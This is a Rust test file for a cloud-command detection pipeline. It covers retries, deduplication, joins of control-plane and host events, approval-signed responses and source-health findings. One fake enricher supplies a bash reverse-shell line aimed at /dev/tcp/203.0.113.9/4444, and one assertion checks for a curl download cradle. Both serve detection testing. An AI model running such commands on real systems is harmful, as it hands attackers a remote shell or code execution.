//! The pipeline's rules, tested once, with fake stores, sinks and enrichers that fail at every
//! step. The adapters' own tests check only their translation.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use cadet_core::baseline::{AsyncBaselineStore, Put, Stored, Version};
use cadet_core::profile::Profile;
use cadet_core::{CommandEvent, Finding, Policy, SignalId};
use cadet_pipeline::{Enricher, Outcome, Pipeline, Raw};
use cadet_sinks::{BoxFuture, Sink, SinkError};
use cadet_state::{MemoryStore, StateError};

const ALERT: &str = include_str!("../../../events/aws/sendcommand-root.json");
const BENIGN: &str = include_str!("../../../events/aws/sendcommand-patch-baseline-benign.json");
const CONTEXT: &str = include_str!("../../../events/aws/create-instance-profile-pacu.json");

/// A memory store whose reads or writes fail on demand.
#[derive(Debug, Default)]
struct FlakyStore {
    inner: MemoryStore,
    fail_gets: AtomicUsize,
    fail_puts: AtomicUsize,
}

fn take(n: &AtomicUsize) -> bool {
    n.fetch_update(Ordering::SeqCst, Ordering::SeqCst, |v| v.checked_sub(1))
        .is_ok()
}

impl AsyncBaselineStore for FlakyStore {
    type Error = StateError;
    async fn get(&self, key: &str) -> Result<Option<Stored>, StateError> {
        if take(&self.fail_gets) {
            return Err(StateError::Io("injected read failure".into()));
        }
        cadet_core::BaselineStore::get(&self.inner, key)
    }
    async fn put(
        &self,
        key: &str,
        profile: Profile,
        expected: Option<&Version>,
    ) -> Result<Put, StateError> {
        // Only the principal's own profile: the write of the record step.
        let principal = !key.ends_with("|*") && !key.contains("|org|");
        if principal && take(&self.fail_puts) {
            return Err(StateError::Io(
                "injected write failure (crash before record)".into(),
            ));
        }
        cadet_core::BaselineStore::put(&self.inner, key, profile, expected)
    }
    async fn get_record(
        &self,
        key: &str,
    ) -> Result<Option<cadet_core::baseline::StoredRecord>, StateError> {
        self.inner.get_record(key).await
    }
    async fn put_record(
        &self,
        key: &str,
        text: &str,
        expires: jiff::Timestamp,
        expected: Option<&cadet_core::baseline::Version>,
    ) -> Result<cadet_core::baseline::Put, StateError> {
        self.inner.put_record(key, text, expires, expected).await
    }
}

/// A sink that records what it accepted and fails on demand.
#[derive(Debug, Default)]
struct FakeSink {
    accepted: Mutex<Vec<String>>,
    fail: AtomicUsize,
    permanent: bool,
}

impl Sink for FakeSink {
    fn name(&self) -> &'static str {
        "fake"
    }
    fn publish<'a>(&'a self, f: &'a Finding) -> BoxFuture<'a, Result<(), SinkError>> {
        Box::pin(async move {
            if take(&self.fail) {
                return Err(if self.permanent {
                    SinkError::Config {
                        sink: "fake",
                        message: "bad URL".into(),
                    }
                } else {
                    SinkError::Status {
                        sink: "fake",
                        status: 503,
                        detail: String::new(),
                    }
                });
            }
            self.accepted
                .lock()
                .unwrap_or_else(|p| p.into_inner())
                .push(f.finding_id.clone());
            Ok(())
        })
    }
}

impl FakeSink {
    fn accepted(&self) -> Vec<String> {
        self.accepted
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }
}

#[derive(Debug)]
struct FakeEnricher {
    delay: Duration,
    text: &'static str,
}

impl Enricher for FakeEnricher {
    fn name(&self) -> &'static str {
        "fake"
    }
    fn applies(&self, e: &CommandEvent) -> bool {
        e.operation == "ssm:SendCommand"
    }
    fn enrich<'a>(&'a self, e: &'a mut CommandEvent) -> BoxFuture<'a, ()> {
        Box::pin(async move {
            tokio::time::sleep(self.delay).await;
            e.command_text = Some(self.text.to_string());
        })
    }
}

fn pipeline(store: FlakyStore, sink: &Arc<FakeSink>) -> Pipeline<FlakyStore> {
    let sinks: Vec<Arc<dyn Sink>> = vec![sink.clone()];
    Pipeline::new(store, Policy::default(), sinks)
}

async fn one(p: &Pipeline<FlakyStore>, text: &str) -> Outcome {
    p.process_one(Raw::Text(text)).await
}

#[tokio::test]
async fn an_alert_is_published_then_recorded_and_a_redelivery_is_a_duplicate() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let first = one(&p, ALERT).await;
    assert!(matches!(first, Outcome::Alerted { .. }), "{first:?}");
    assert_eq!(sink.accepted().len(), 1);
    let again = one(&p, ALERT).await;
    assert!(matches!(again, Outcome::Duplicate), "{again:?}");
    assert_eq!(sink.accepted().len(), 1, "a duplicate publishes nothing");
}

#[tokio::test]
async fn a_failed_publish_is_not_recorded_so_the_redelivery_publishes() {
    let sink = Arc::new(FakeSink {
        fail: AtomicUsize::new(1),
        ..FakeSink::default()
    });
    let p = pipeline(FlakyStore::default(), &sink);
    let first = one(&p, ALERT).await;
    match &first {
        Outcome::SinkFailed {
            retryable, errors, ..
        } => {
            assert!(*retryable);
            assert!(errors[0].contains("503"), "{errors:?}");
        }
        other => panic!("{other:?}"),
    }
    assert!(first.is_failure() && first.retryable());
    let second = one(&p, ALERT).await;
    assert!(matches!(second, Outcome::Alerted { .. }), "{second:?}");
    assert_eq!(sink.accepted().len(), 1);
    assert!(matches!(one(&p, ALERT).await, Outcome::Duplicate));
    assert_eq!(sink.accepted().len(), 1);
}

#[tokio::test]
async fn a_crash_between_publish_and_record_publishes_again_under_the_same_id() {
    let sink = Arc::new(FakeSink::default());
    let store = FlakyStore::default();
    let p = pipeline(store, &sink);
    p.store().fail_puts.store(1, Ordering::SeqCst);
    let first = one(&p, ALERT).await;
    let id = match &first {
        Outcome::StoreFailed {
            published: Some(id),
            ..
        } => id.clone(),
        other => panic!("{other:?}"),
    };
    assert!(first.retryable());
    let second = one(&p, ALERT).await;
    assert!(matches!(second, Outcome::Alerted { .. }), "{second:?}");
    assert_eq!(
        sink.accepted(),
        vec![id.clone(), id],
        "published twice under one finding_id: the receiver deduplicates"
    );
    assert!(matches!(one(&p, ALERT).await, Outcome::Duplicate));
}

#[tokio::test]
async fn a_store_that_cannot_be_read_publishes_nothing() {
    let sink = Arc::new(FakeSink::default());
    let store = FlakyStore {
        fail_gets: AtomicUsize::new(1),
        ..FlakyStore::default()
    };
    let p = pipeline(store, &sink);
    let o = one(&p, ALERT).await;
    assert!(
        matches!(
            o,
            Outcome::StoreFailed {
                published: None,
                ..
            }
        ),
        "{o:?}"
    );
    assert!(sink.accepted().is_empty());
    assert!(matches!(one(&p, ALERT).await, Outcome::Alerted { .. }));
}

#[tokio::test]
async fn a_permanent_sink_error_is_not_retryable_but_still_a_failure() {
    let sink = Arc::new(FakeSink {
        fail: AtomicUsize::new(1),
        permanent: true,
        ..FakeSink::default()
    });
    let p = pipeline(FlakyStore::default(), &sink);
    let o = one(&p, ALERT).await;
    assert!(o.is_failure() && !o.retryable(), "{o:?}");
}

#[tokio::test]
async fn a_batch_keeps_order_and_a_bad_record_costs_only_itself() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let records = vec![
        Ok(Raw::Text(BENIGN)),
        Ok(Raw::Text("{\"not\": \"an event\"}")),
        Err("record 3: not valid JSON".to_string()),
        Ok(Raw::Text(CONTEXT)),
        Ok(Raw::Text(ALERT)),
    ];
    let report = p.process(records).await;
    let kinds: Vec<&str> = report
        .outcomes
        .iter()
        .map(|o| match o {
            Outcome::BelowThreshold { .. } => "below",
            Outcome::Rejected { .. } => "rejected",
            Outcome::Observed => "observed",
            Outcome::Alerted { .. } => "alerted",
            Outcome::Ignored => "ignored",
            _ => "other",
        })
        .collect();
    assert_eq!(
        kinds,
        ["below", "rejected", "rejected", "observed", "alerted"]
    );
    assert_eq!(report.failures(), 2);
    assert!(!report.ok());
    assert_eq!(report.alerts().count(), 1);
    assert!(
        report.summary().starts_with("5 records: "),
        "{}",
        report.summary()
    );
}

#[tokio::test]
async fn enrichment_adds_command_text_and_a_slow_enricher_is_cut_off() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink).with_enrichers(vec![Arc::new(FakeEnricher {
        delay: Duration::from_millis(1),
        text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    })]);
    let o = one(&p, ALERT).await;
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    assert!(
        f.signals
            .iter()
            .any(|s| s.id == SignalId::ReverseShell.as_str()),
        "{:?}",
        f.signals
    );

    let mut slow =
        pipeline(FlakyStore::default(), &sink).with_enrichers(vec![Arc::new(FakeEnricher {
            delay: Duration::from_secs(30),
            text: "never",
        })]);
    slow.enrich_budget = Duration::from_millis(50);
    let started = Instant::now();
    let o = one(&slow, ALERT).await;
    assert!(started.elapsed() < Duration::from_secs(5), "bounded");
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    let why = f
        .signals
        .iter()
        .find(|s| s.id == SignalId::EnrichmentUnavailable.as_str())
        .map(|s| s.reason.clone())
        .unwrap_or_else(|| panic!("{:?}", f.signals));
    assert!(why.contains("timed out after 50 ms"), "{why}");
    assert!(
        matches!(o, Outcome::Alerted { .. }),
        "still published: {o:?}"
    );
}

#[tokio::test]
async fn metrics_count_every_outcome_once_and_reset_when_taken() {
    let sink = Arc::new(FakeSink {
        fail: AtomicUsize::new(1),
        ..FakeSink::default()
    });
    let mut p =
        pipeline(FlakyStore::default(), &sink).with_enrichers(vec![Arc::new(FakeEnricher {
            delay: Duration::from_secs(30),
            text: "never",
        })]);
    p.enrich_budget = Duration::from_millis(20);
    // A sink failure, then the redelivery alerts, then a duplicate; a malformed record.
    assert!(matches!(one(&p, ALERT).await, Outcome::SinkFailed { .. }));
    assert!(matches!(one(&p, ALERT).await, Outcome::Alerted { .. }));
    assert!(matches!(one(&p, ALERT).await, Outcome::Duplicate));
    assert!(matches!(
        one(&p, "{not json").await,
        Outcome::Rejected { .. }
    ));
    let m = p.take_metrics();
    assert_eq!(m.events_in, 4);
    assert_eq!(
        (m.sink_failures, m.alerts, m.duplicates, m.rejected),
        (1, 1, 1, 1)
    );
    // The alerted verdict, timed out of its enrichment; its lag measured from the event time.
    assert_eq!(m.verdicts.iter().sum::<u64>(), 1);
    assert_eq!(m.enrichment_timeouts, 1);
    assert_eq!(m.lag_seconds.len(), 1);
    assert!(m.lag_seconds[0] > 0.0);
    assert!(p.take_metrics().is_empty(), "taking resets the counts");
    assert!(p.take_metrics_line("f").is_none(), "nothing to print");
}

#[tokio::test]
async fn a_shadow_alert_is_recorded_and_counted_but_never_delivered() {
    let sink = Arc::new(FakeSink::default());
    let shadow =
        Policy::from_toml("[shadow]\nmode = \"shadow\"\n").unwrap_or_else(|e| panic!("{e}"));
    let sinks: Vec<Arc<dyn Sink>> = vec![sink.clone()];
    let store = FlakyStore::default();
    let p = Pipeline::new(&store, shadow, sinks.clone());
    let o = p.process_one(Raw::Text(ALERT)).await;
    match &o {
        Outcome::Shadowed {
            finding, reason, ..
        } => {
            assert!(finding.severity >= cadet_core::Severity::Medium);
            assert!(reason.contains("shadow mode"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert!(!o.is_failure());
    assert!(sink.accepted().is_empty(), "nothing delivered");
    let m = p.take_metrics();
    assert_eq!(
        (m.shadow_alerts, m.alerts, m.verdicts.iter().sum::<u64>()),
        (1, 0, 1)
    );
    // Recorded as usual: the redelivery is a duplicate, under shadow or live.
    let live = Pipeline::new(&store, Policy::default(), sinks);
    assert!(matches!(
        live.process_one(Raw::Text(ALERT)).await,
        Outcome::Duplicate
    ));
    assert!(sink.accepted().is_empty());
}

// --- Control plane ⋈ host: the join, in both arrival orders. ---

const SSM_EPISODE: &str =
    include_str!("../../../events/endpoint/ssm-sendcommand-encoded-powershell.json");
const AZURE_EPISODE: &str =
    include_str!("../../../events/endpoint/azure-runcommand-download-cradle.json");

/// The records of a sample file, as JSON texts, in file order.
fn records(text: &str) -> Vec<String> {
    cadet_core::records(text)
        .into_iter()
        .map(|(pos, r)| {
            r.map(|raw| raw.get().to_string())
                .unwrap_or_else(|e| panic!("{pos}: {e}"))
        })
        .collect()
}

fn signal_ids(f: &Finding) -> Vec<&'static str> {
    f.signals.iter().map(|s| s.id).collect()
}

/// Every id once: the joined score counts each signal once.
fn assert_once(f: &Finding) {
    let mut ids = signal_ids(f);
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), n, "a signal counted twice: {:?}", signal_ids(f));
    let sum: i32 = f.signals.iter().map(|s| s.points).sum();
    assert_eq!(i32::from(f.risk_score), sum.clamp(0, 100));
}

#[tokio::test]
async fn control_plane_first_then_host_joins_and_re_emits_the_call() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let recs = records(SSM_EPISODE); // SendCommand, the agent's wrapper, the encoded child
    let call = one(&p, &recs[0]).await;
    let call_finding = call
        .finding()
        .cloned()
        .unwrap_or_else(|| panic!("{call:?}"));
    assert!(call_finding.related.is_empty());
    let _wrapper = one(&p, &recs[1]).await;
    let child = one(&p, &recs[2]).await;
    let host = child.finding().unwrap_or_else(|| panic!("{child:?}"));
    // The host finding gains the caller.
    assert_eq!(host.action, "agent_process");
    assert_eq!(host.related.len(), 1, "{:?}", host.related);
    assert_eq!(host.related[0].event_id, call_finding.event_id);
    assert_eq!(host.related[0].operation, "ssm:SendCommand");
    assert_eq!(
        host.related[0].principal.as_deref(),
        Some("arn:aws:iam::111122223333:user/mallory")
    );
    assert_eq!(host.related[0].source_ip.as_deref(), Some("203.0.113.66"));
    assert!(signal_ids(host).contains(&"seed_encoded_shell"));
    assert!(
        signal_ids(host).contains(&"long_term_key"),
        "caller's signals joined"
    );
    assert_once(host);
    // The call is re-emitted: same finding id, revision raised, the command line scored.
    let re = child
        .rejoined()
        .iter()
        .find(|f| f.finding_id == call_finding.finding_id)
        .unwrap_or_else(|| panic!("call not re-emitted: {:?}", child.rejoined()));
    assert_eq!(re.revision, 2, "wrapper then child: two re-emissions");
    assert!(re
        .command_text
        .as_deref()
        .is_some_and(|t| t.contains("-Enc")));
    assert!(signal_ids(re).contains(&"encoded_command"));
    assert!(
        !signal_ids(re).contains(&"agent_wrapper"),
        "host-only mitigations stay"
    );
    assert!(re.risk_score > call_finding.risk_score);
    assert_once(re);
    assert!(sink.accepted().contains(&re.finding_id));
}

#[tokio::test]
async fn host_first_then_control_plane_joins_and_re_emits_the_processes() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let recs = records(AZURE_EPISODE); // wrapper, cmd with the cradle, then runCommand/action
    let wrapper = one(&p, &recs[0]).await;
    let cradle = one(&p, &recs[1]).await;
    let cradle_finding = cradle
        .finding()
        .cloned()
        .unwrap_or_else(|| panic!("{cradle:?}"));
    assert!(matches!(cradle, Outcome::Alerted { .. }), "{cradle:?}");
    assert!(cradle_finding.related.is_empty());
    assert!(
        matches!(wrapper, Outcome::BelowThreshold { .. }),
        "{wrapper:?}"
    );
    let call = one(&p, &recs[2]).await;
    let f = call.finding().unwrap_or_else(|| panic!("{call:?}"));
    assert_eq!(f.action, "run_command");
    assert_eq!(f.related.len(), 2, "{:?}", f.related);
    // Azure never records the script: the host's command line becomes the call's.
    assert!(f
        .command_text
        .as_deref()
        .is_some_and(|t| t.contains("curl -s http://203.0.113.50/")));
    assert!(signal_ids(f).contains(&"download_cradle"));
    assert_once(f);
    assert_eq!(call.rejoined().len(), 2);
    for r in call.rejoined() {
        assert_eq!(r.revision, 1);
        assert_eq!(r.related.len(), 1);
        assert!(r.related[0].operation.ends_with("runCommand/action"));
        assert!(signal_ids(r).contains(&"delegated_admin"));
        assert_once(r);
    }
    // The alerted cradle finding was published again under its id; the wrapper, now joined to
    // an alerting call, too.
    let published = sink.accepted();
    assert_eq!(
        published
            .iter()
            .filter(|id| **id == cradle_finding.finding_id)
            .count(),
        2
    );
}

#[tokio::test]
async fn a_process_outside_the_join_window_does_not_join() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let recs = records(SSM_EPISODE);
    let _ = one(&p, &recs[0]).await;
    // The same encoded child, an hour after the call (window 10 minutes).
    let late = recs[2].replace("2026-10-03 02:13:10.077", "2026-10-03 03:13:10.077");
    let o = one(&p, &late).await;
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    assert!(f.related.is_empty(), "{:?}", f.related);
    assert!(o.rejoined().is_empty());
    // And one from before the call beyond the allowed skew (2 minutes) neither.
    let early = recs[2]
        .replace("2026-10-03 02:13:10.077", "2026-10-03 02:01:00.000")
        .replace("0c1d2e3f4a02}", "0c1d2e3f4a99}");
    let o = one(&p, &early).await;
    assert!(o.finding().is_some_and(|f| f.related.is_empty()));
}

#[tokio::test]
async fn a_redelivered_process_is_a_duplicate_and_does_not_re_emit() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let recs = records(SSM_EPISODE);
    for r in &recs {
        let _ = one(&p, r).await;
    }
    let before = sink.accepted().len();
    let again = one(&p, &recs[2]).await;
    assert!(matches!(again, Outcome::Duplicate), "{again:?}");
    assert_eq!(sink.accepted().len(), before);
}

#[tokio::test]
async fn response_modes_attach_the_plan_and_a_signed_request() {
    use cadet_core::response::Mode;
    use cadet_pipeline::Approvals;
    use cadet_respond::approval::ApprovalRequest;
    const KEY: &[u8] = b"0123456789abcdef0123456789abcdef";
    let policy = |mode: &str| {
        Policy::from_toml(&format!("[response]\nmode = \"{mode}\"\n"))
            .unwrap_or_else(|e| panic!("{e}"))
    };
    let alerted = |o: Outcome| match o {
        Outcome::Alerted { finding, .. } => *finding,
        other => panic!("{other:?}"),
    };
    // off: nothing attached, as before.
    let sink = Arc::new(FakeSink::default());
    let p = Pipeline::new(
        FlakyStore::default(),
        policy("off"),
        vec![sink.clone() as Arc<dyn Sink>],
    );
    assert!(alerted(one(&p, ALERT).await).response.is_none());
    // suggest: the plan, no request.
    let p = Pipeline::new(
        FlakyStore::default(),
        policy("suggest"),
        vec![sink.clone() as Arc<dyn Sink>],
    );
    let f = alerted(one(&p, ALERT).await);
    let r = f.response.as_ref().unwrap_or_else(|| panic!("no response"));
    assert_eq!(r.mode, Mode::Suggest);
    assert_eq!(r.plan.finding_id, f.finding_id);
    assert!(r.plan.step("cancel-command").is_some());
    assert!(r.approval.is_none());
    // approve: a request signed for exactly this plan, naming the detector.
    let detector = "arn:aws:iam::111122223333:role/cadet-detector";
    let approvals = Approvals::new(KEY.to_vec(), detector).unwrap_or_else(|e| panic!("{e}"));
    let p = Pipeline::new(
        FlakyStore::default(),
        policy("approve"),
        vec![sink.clone() as Arc<dyn Sink>],
    )
    .with_approvals(approvals);
    let f = alerted(one(&p, ALERT).await);
    let r = f.response.as_ref().unwrap_or_else(|| panic!("no response"));
    let a = r
        .approval
        .as_ref()
        .unwrap_or_else(|| panic!("no approval request"));
    let now = jiff::Timestamp::now().as_second();
    let req = ApprovalRequest::verify(&a.token, KEY, now).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(req.plan_digest, r.plan.digest());
    assert_eq!(req.issued_by, detector);
    assert_eq!(req.request_id, a.request_id);
    assert!(req.expires_at - now <= 3600 && req.expires_at - now > 3500);
    // The finding JSON carries it for every sink.
    let json = serde_json::to_value(&f).unwrap_or_default();
    assert_eq!(json["response"]["mode"], "approve");
    assert_eq!(json["response"]["approval"]["token"], a.token.as_str());
    // approve without a key: the plan, and why there is no request.
    let p = Pipeline::new(
        FlakyStore::default(),
        policy("approve"),
        vec![sink as Arc<dyn Sink>],
    );
    let f = alerted(one(&p, ALERT).await);
    let r = f.response.unwrap_or_else(|| panic!("no response"));
    assert!(
        r.approval.is_none() && r.why.contains("no approval key"),
        "{}",
        r.why
    );
    // A deployment whose policy asks for approvals refuses to start without a key.
    let err = Approvals::from_settings(&policy("approve"), None, None, "lambda:cadet");
    assert!(
        matches!(&err, Err(m) if m.contains("CADET_APPROVAL_KEY")),
        "{err:?}"
    );
    assert!(matches!(
        Approvals::from_settings(&policy("suggest"), None, None, "x"),
        Ok(None)
    ));
}

/// A Session Manager call by `alice` into `account` at `t` (Unix seconds) with id `id`; with
/// `broken`, the same record with `userIdentity` as a string (a changed shape).
fn session(account: &str, t: i64, id: u64, broken: bool) -> String {
    let time = jiff::Timestamp::from_second(t).unwrap_or(jiff::Timestamp::UNIX_EPOCH);
    let identity = if broken {
        r#""alice""#.to_string()
    } else {
        format!(
            r#"{{"type":"IAMUser","arn":"arn:aws:iam::{account}:user/alice","accountId":"{account}"}}"#
        )
    };
    format!(
        r#"{{"eventVersion":"1.08","eventSource":"ssm.amazonaws.com","eventName":"StartSession","eventTime":"{time}","eventID":"h-{id}","awsRegion":"eu-west-1","recipientAccountId":"{account}","sourceIPAddress":"198.51.100.7","userIdentity":{identity},"requestParameters":{{"target":"i-0123456789abcdef0"}}}}"#
    )
}

/// Days of traffic for two accounts, with the tally flushed every hour as a long-running
/// instance does every minute: (account, seconds) pairs and the pipeline.
async fn traffic(
    p: &Pipeline<FlakyStore>,
    from: i64,
    hours: i64,
    accounts: &[&str],
    broken: &[&str],
    id: &mut u64,
) {
    for h in 0..hours {
        let t = from + h * 3600;
        for a in accounts {
            // Every 5 minutes.
            for m in (0..60).step_by(5) {
                *id += 1;
                let text = session(a, t + m * 60, *id, broken.contains(a));
                let _ = p.process_one(Raw::Text(&text)).await;
            }
        }
        if let Err(e) = p.flush_health().await {
            panic!("{e}");
        }
    }
}

const T0: i64 = 1_790_208_000; // a UTC midnight

#[tokio::test]
async fn a_quiet_account_raises_one_health_finding_and_clears_when_heard() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let (quiet, busy) = ("111122223333", "444455556666");
    let mut id = 0;
    // Ten days of both, checked every hour: nothing to say.
    traffic(&p, T0, 240, &[quiet, busy], &[], &mut id).await;
    let check = p
        .check_health(
            jiff::Timestamp::from_second(T0 + 240 * 3600).unwrap_or(jiff::Timestamp::UNIX_EPOCH),
        )
        .await;
    assert!(check.ok() && check.findings.is_empty(), "{check:?}");
    assert_eq!(check.sources, 2);
    // Then one account falls silent for a day, checked every hour: one finding, not 24.
    let mut raised = Vec::new();
    for h in 0..24 {
        traffic(&p, T0 + (240 + h) * 3600, 1, &[busy], &[], &mut id).await;
        let at = jiff::Timestamp::from_second(T0 + (241 + h) * 3600)
            .unwrap_or(jiff::Timestamp::UNIX_EPOCH);
        let check = p.check_health(at).await;
        assert!(check.ok(), "{check:?}");
        raised.extend(check.findings);
    }
    assert_eq!(raised.len(), 1, "{raised:#?}");
    let f = &raised[0];
    assert_eq!(f.action, "source_health");
    assert_eq!(f.operation, "cadet:SourceSilent");
    assert_eq!(f.account, quiet);
    assert!(
        f.summary.contains("aws:111122223333:eu-west-1"),
        "{}",
        f.summary
    );
    assert_eq!(
        sink.accepted(),
        vec![f.finding_id.clone()],
        "delivered through the sinks"
    );
    // It speaks again: one recovery, with the same finding id one revision on.
    traffic(&p, T0 + 264 * 3600, 1, &[quiet, busy], &[], &mut id).await;
    let check = p
        .check_health(
            jiff::Timestamp::from_second(T0 + 265 * 3600).unwrap_or(jiff::Timestamp::UNIX_EPOCH),
        )
        .await;
    assert_eq!(check.findings.len(), 1, "{check:?}");
    assert_eq!(check.findings[0].operation, "cadet:SourceHeard");
    assert_eq!(check.findings[0].finding_id, f.finding_id);
    assert_eq!(check.findings[0].revision, 1);
    let again = p
        .check_health(
            jiff::Timestamp::from_second(T0 + 266 * 3600).unwrap_or(jiff::Timestamp::UNIX_EPOCH),
        )
        .await;
    assert!(again.findings.is_empty(), "{again:?}");
    let m = p.take_metrics();
    assert_eq!(m.health_findings, 1);
}

#[tokio::test]
async fn records_that_stop_parsing_raise_one_finding_and_a_failed_delivery_is_raised_again() {
    let sink = Arc::new(FakeSink::default());
    let p = pipeline(FlakyStore::default(), &sink);
    let (bad, good) = ("111122223333", "444455556666");
    let mut id = 0;
    traffic(&p, T0, 48, &[bad, good], &[], &mut id).await;
    // The shape changes at hour 48 for one account; the first check's delivery fails.
    let mut raised = Vec::new();
    let mut failures = 0;
    for h in 48..54 {
        traffic(&p, T0 + h * 3600, 1, &[bad, good], &[bad], &mut id).await;
        // The first delivery of a health finding fails.
        if failures == 0 {
            sink.fail.store(1, Ordering::SeqCst);
        }
        let check = p
            .check_health(
                jiff::Timestamp::from_second(T0 + (h + 1) * 3600)
                    .unwrap_or(jiff::Timestamp::UNIX_EPOCH),
            )
            .await;
        failures += check.failures.len();
        sink.fail.store(0, Ordering::SeqCst);
        raised.extend(check.findings);
    }
    assert_eq!(failures, 1, "the failed delivery is reported");
    assert_eq!(raised.len(), 1, "{raised:#?}");
    let f = &raised[0];
    assert_eq!(f.operation, "cadet:SourceShapeChanged");
    let since = jiff::Timestamp::from_second(T0 + 48 * 3600).unwrap_or(jiff::Timestamp::UNIX_EPOCH);
    assert!(
        f.summary.contains(&format!(
            "stopped matching the expected shape at {}",
            since.strftime("%Y-%m-%d %H:%M UTC")
        )),
        "{}",
        f.summary
    );
    assert!(f.summary.contains("rejected since"), "{}", f.summary);
    assert_eq!(sink.accepted(), vec![f.finding_id.clone()]);
    // Fixed: one recovery.
    traffic(&p, T0 + 54 * 3600, 2, &[bad, good], &[], &mut id).await;
    let check = p
        .check_health(
            jiff::Timestamp::from_second(T0 + 56 * 3600).unwrap_or(jiff::Timestamp::UNIX_EPOCH),
        )
        .await;
    assert_eq!(check.findings.len(), 1, "{check:?}");
    assert_eq!(check.findings[0].operation, "cadet:SourceParsing");
}
